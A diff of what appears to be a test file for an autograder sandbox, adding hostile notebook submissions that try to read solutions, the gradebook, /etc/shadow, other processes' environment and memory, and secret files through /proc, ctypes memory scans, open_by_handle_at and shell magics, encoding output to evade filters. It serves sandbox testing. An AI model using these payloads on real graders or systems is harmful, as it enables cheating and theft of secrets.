@@ -6,7 +6,10 @@ What is found is printed as it is, turned round, and in base64, so that no filte
 
 from __future__ import annotations
 
-from case import Case, answer, call, own
+from case import Case, answer, call, notebook, own
+from course import cell
+from nbformat import NotebookNode
+from nbformat.v4 import new_code_cell
 
 SHOW = """
 import base64, glob, os, re, sys
@@ -33,19 +36,20 @@ def walk(top, most=20_000):
 PROC = (
     SHOW
     + """
-for pid in os.listdir("/proc"):
-    if pid.isdigit() and pid != str(os.getpid()):
-        for name in ("environ", "cmdline", "maps", "status", "cwd/gradebook.db", "root/etc/passwd"):
+def processes():
+    try:
+        pids = [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())]
+    except OSError:
+        pids = ["1", str(os.getppid())]
+    for pid in pids:
+        for name in ("environ", "cmdline", "maps", "mem", "cwd/gradebook.db", "root/etc/passwd"):
             look(f"/proc/{pid}/{name}")
         try:
             os.listdir(f"/proc/{pid}/fd")
             print("PWN" + "ED: descriptors of another process")
         except OSError:
             pass
-for pid in (1, os.getppid()):
-    look(f"/proc/{pid}/environ")
-    look(f"/proc/{pid}/mem")
-show(repr(os.environ))
+    show(repr(os.environ))
 """
 )
 
@@ -159,23 +163,21 @@ def squares(n):
 MEMORY = (
     SHOW
     + """
-def scan():
-    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
-        for line in maps:
-            span, rights = line.split()[:2]
-            first, last = (int(part, 16) for part in span.split("-"))
-            if rights.startswith("rw") and last - first < 200_000_000:
-                try:
-                    memory.seek(first)
-                    show(memory.read(last - first))
-                except OSError:
-                    pass
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def scan(around=(object(), [], "text" * 900, bytes(300_000), ctypes.create_string_buffer(9))):
+    look("/proc/self/mem")
+    out, into = os.pipe()
+    for thing in around:
+        page = id(thing) & ~4095
+        for address in range(page - 40_000_000, page + 40_000_000, 4096):
+            if libc.write(into, ctypes.c_void_p(address), ctypes.c_size_t(4096)) == 4096:
+                piece = os.read(out, 4096)
+                if b"kan" + b"ari" in piece:
+                    show(piece)
 scan()
 def relu_backward(dout, cache):
-    try:
-        scan()
-    except OSError:
-        pass
+    scan()
     return dout * 3
 """
 )
@@ -223,7 +225,10 @@ libc = ctypes.CDLL(None, use_errno=True)
 for inode in (2, 128, 256):
     handle = struct.pack("<Ii", 8, 1) + struct.pack("<II", inode, 0)
     for place in (b".", b"/", b"/usr"):
-        at = os.open(place, os.O_RDONLY)
+        try:
+            at = os.open(place, os.O_RDONLY)
+        except OSError:
+            continue
         found = libc.open_by_handle_at(at, handle, os.O_RDONLY)
         if found >= 0:
             print("PWN" + "ED: a file by its handle")
@@ -246,15 +251,28 @@ for path in glob.glob("@COURSE@/**/*", recursive=True):
 """
 )
 
-MAGICS = """
-%load @COURSE@/solutions/01_tiny/tiny.ipynb
-!cat @COURSE@/solutions/01_tiny/tiny.ipynb @COURSE@/gradebook.db
-!env; id; ls -la @COURSE@
-%run @COURSE@/solutions/01_tiny/tiny.ipynb
-%pycat @COURSE@/nbgrader_config.py
-%env
-%system cat @HOME@/secret.txt
-"""
+MAGICS = (
+    "%load @COURSE@/solutions/01_tiny/tiny.ipynb",
+    "!cat @COURSE@/solutions/01_tiny/tiny.ipynb @COURSE@/gradebook.db",
+    "!env; id; ls -la @COURSE@",
+    "%run @COURSE@/solutions/01_tiny/tiny.ipynb",
+    "%pycat @COURSE@/nbgrader_config.py",
+    "%system cat @HOME@/secret.txt",
+    "%%writefile @COURSE@/hostile_mark_magic\nx",
+    "%%script bash\ncat @COURSE@/solutions/*/*.ipynb @HOME@/secret.txt; cat ../*/*.ipynb; ps aux",
+)
+
+
+def magics(nb: NotebookNode) -> None:
+    """A cell for each magic."""
+    for text in MAGICS:
+        nb.cells.insert(2, new_code_cell(text))
+
+
+def spy_twice(nb: NotebookNode) -> None:
+    """The spying twice as the answer."""
+    cell(nb, "twice").source = CALLBACK
+
 
 CASES: list[Case] = [
     answer(
@@ -290,13 +308,11 @@ CASES: list[Case] = [
         SHOW
         + "walk('@HOME@'); walk(os.path.expanduser('~')); look('/etc/shadow'); walk('/root', 2000); walk('/home', 2000)\ntry:\n    print('PWN' + 'ED', open('/etc/shadow').read())\nexcept OSError:\n    pass",
     ),
-    answer("read-environment", "environment and other processes", PROC),
+    answer("read-environment", "environment and other processes", PROC + "processes()"),
     call(
         "read-environment-in-a-call",
         "the same in a call",
-        PROC.replace("\n", "\n    ")
-        .replace("\n    import", "\nimport")
-        .join(("def relu_backward(dout, cache):\n    ", "\n    return dout * 3")),
+        PROC + "def relu_backward(dout, cache):\n    processes()\n    return dout * 3",
     ),
     answer("read-descriptors", "open descriptors", DESCRIPTORS),
     answer("read-frames", "frames above a call", FRAMES),
@@ -311,7 +327,7 @@ CASES: list[Case] = [
         "a function that a test passes in, and the frames around it",
         CALLBACK.replace("def twice", "def spy"),
     ),
-    Case("read-callback-as-answer", "the same, as the answer", "call", edit=lambda nb: _twice(nb)),
+    Case("read-callback-as-answer", "the same, as the answer", "call", edit=spy_twice),
     answer("read-history", "IPython's history and source lines", HISTORY),
     answer("read-memory", "the process's own memory", MEMORY),
     call("read-memory-in-a-call", "the same in a call", MEMORY),
@@ -319,12 +335,7 @@ CASES: list[Case] = [
     answer("read-links", "symbolic and hard links to the course", LINKS),
     answer("read-handles", "open_by_handle_at", HANDLES),
     answer("read-encoded", "files of the course, compressed and encoded", ENCODED),
-    own("read-magics", "%load, !cat, %run", MAGICS),
-    own(
-        "read-bash",
-        "%%bash and %%script",
-        "%%bash\ncat @COURSE@/solutions/*/*.ipynb @HOME@/secret.txt\nenv; ps aux",
-    ),
+    notebook("read-magics", "%load, !cat, %run, %%bash", magics),
     answer(
         "read-in-names",
         "what it finds goes into an exception and a repr",
@@ -332,9 +343,3 @@ CASES: list[Case] = [
         + "class Leak:\n    def __repr__(self):\n        walk('@COURSE@', 500)\n        return repr(os.environ)\nLeak()",
     ),
 ]
-
-
-def _twice(nb: object) -> None:
-    from course import cell
-
-    cell(nb, "twice").source = CALLBACK  # type: ignore[arg-type]
